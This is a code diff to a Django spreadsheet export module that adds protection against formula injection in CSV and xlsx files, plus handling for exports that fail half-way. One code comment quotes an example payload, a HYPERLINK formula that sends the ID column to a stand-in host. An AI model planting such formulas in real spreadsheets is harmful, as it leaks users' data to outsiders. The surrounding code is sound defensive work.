@@ -16,6 +16,7 @@ from __future__ import annotations
 import codecs
 import csv
 import io
+import logging
 import tempfile
 from collections.abc import Iterable, Iterator, Mapping, Sequence
 from dataclasses import dataclass
@@ -30,6 +31,29 @@ from django.http import FileResponse, StreamingHttpResponse
 from yanglao.core.dates import local_datetime
 
 XLSX_MAX_ROWS = 1_048_576  # Excel's sheet limit, header included
+
+logger = logging.getLogger(__name__)
+
+# Formula injection (CWE-1236): a spreadsheet program evaluates a cell that starts with one of
+# these (`=HYPERLINK("http://x/?"&B2)` sends out the ID column). Exports write such text
+# cells as explicit strings: xlsx with Excel's quote prefix (the text stays unchanged), CSV with
+# a leading apostrophe (OWASP). Numbers written as numbers (negative amounts) are not text.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+STREAM_FAILED_MARKER = "### 导出中断：生成文件时出错，本文件不完整，请重新导出 ###"
+
+
+def is_formula_like(text: str) -> bool:
+    return text.startswith(FORMULA_TRIGGERS)
+
+
+def neutralise(text: str) -> str:
+    """Text for a CSV cell that no spreadsheet program evaluates as a formula."""
+    return "'" + text if is_formula_like(text) else text
+
+
+def unneutralise(text: str) -> str:
+    """Undo `neutralise` on a cell read back from a CSV (an exported ledger re-imported)."""
+    return text[1:] if text.startswith("'") and is_formula_like(text[1:]) else text
 
 
 class SheetError(Exception):
@@ -132,7 +156,7 @@ def _csv_rows(path: Path, encoding: str) -> Iterator[list[str]]:
     with path.open("r", encoding=encoding, newline="") as f:
         try:
             for row in csv.reader(f):
-                yield _trim(row)
+                yield _trim([unneutralise(c) for c in row])
         except UnicodeDecodeError as e:
             raise SheetError(
                 f"文件编码不一致（按 {encoding} 读取时在第 {e.start} 字节出错）"
@@ -186,6 +210,11 @@ def write_xlsx(
         for c, f in (number_formats or {}).items()
     }
     bold_text = book.add_format({"bold": True, "num_format": "@"})
+    quoted = book.add_format({"num_format": "@", "quote_prefix": True})
+    bold_quoted = book.add_format({"bold": True, "num_format": "@", "quote_prefix": True})
+    bold_header_quoted = book.add_format(
+        {"bold": True, "bg_color": "#EEF2F7", "border": 1, "quote_prefix": True}
+    )
 
     def put(r: int, col: int, value: Any, last: bool = False) -> None:
         if value is None or value == "":
@@ -197,12 +226,16 @@ def write_xlsx(
         ):
             sheet.write_number(r, col, float(value), (bold_numeric if last else numeric)[col])
         elif isinstance(value, bool) or not isinstance(value, int | float):
-            sheet.write_string(r, col, cell_text(value), bold_text if last else None)
+            text_value = cell_text(value)
+            if is_formula_like(text_value):
+                sheet.write_string(r, col, text_value, bold_quoted if last else quoted)
+            else:
+                sheet.write_string(r, col, text_value, bold_text if last else None)
         else:
             sheet.write_number(r, col, value)
 
     for col, title in enumerate(header):
-        sheet.write_string(0, col, title, bold)
+        sheet.write_string(0, col, title, bold_header_quoted if is_formula_like(title) else bold)
         sheet.set_column(col, col, (widths[col] if widths else max(10, len(title) * 2 + 2)), text)
     sheet.freeze_panes(1, 0)
     n = 0
@@ -229,11 +262,18 @@ def xlsx_response(
     number_formats: Mapping[int, str] | None = None,
     footer: Sequence[Any] | None = None,
 ) -> FileResponse:
-    """Build the workbook in a temporary file (constant memory) and stream it."""
+    """Build the workbook in a temporary file (constant memory) and stream it.
+
+    The whole file is written before the response starts, so a failure half-way raises here
+    (an error page or message) instead of sending a truncated workbook with status 200."""
     tmp = tempfile.TemporaryFile()  # noqa: SIM115 -- the response closes (and so deletes) it
-    write_xlsx(
-        tmp, header, rows, sheet_name=sheet_name, number_formats=number_formats, footer=footer
-    )
+    try:
+        write_xlsx(
+            tmp, header, rows, sheet_name=sheet_name, number_formats=number_formats, footer=footer
+        )
+    except BaseException:
+        tmp.close()
+        raise
     tmp.seek(0)
     response = FileResponse(
         tmp,
@@ -248,11 +288,28 @@ class _Echo:
         return value
 
 
+def csv_cell(value: Any) -> str:
+    """A CSV cell: numbers stay numbers (a negative amount keeps its sign), text is
+    neutralised against formula injection."""
+    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
+        return cell_text(value)
+    return neutralise(cell_text(value))
+
+
 def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
+    """CSV lines as they stream. The status line (200) is sent before the rows are read, so a
+    failure half-way ends the file with `STREAM_FAILED_MARKER` and re-raises: the server
+    then aborts the connection (no final chunk), and a file that was saved anyway says it is
+    incomplete instead of passing for the whole list."""
     writer = csv.writer(_Echo())
-    yield "\ufeff" + writer.writerow(header)
-    for row in rows:
-        yield writer.writerow([cell_text(v) for v in row])
+    yield "\ufeff" + writer.writerow([neutralise(h) for h in header])
+    try:
+        for row in rows:
+            yield writer.writerow([csv_cell(v) for v in row])
+    except Exception:
+        logger.exception("CSV export failed half-way")
+        yield "\r\n" + STREAM_FAILED_MARKER + "\r\n"
+        raise
 
 
 def csv_response(
